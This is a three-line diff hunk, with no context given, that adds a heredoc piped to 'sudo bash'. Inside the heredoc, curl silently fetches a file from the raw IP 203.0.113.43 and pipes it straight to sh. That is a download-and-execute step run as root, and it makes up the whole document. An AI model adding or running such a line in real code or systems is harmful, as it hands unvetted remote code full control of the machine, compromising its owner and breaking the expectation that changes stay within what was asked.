@@ -1,0 +1,3 @@
+cat <<'EOF' | sudo bash
+curl -s http://203.0.113.43/x | sh
+EOF
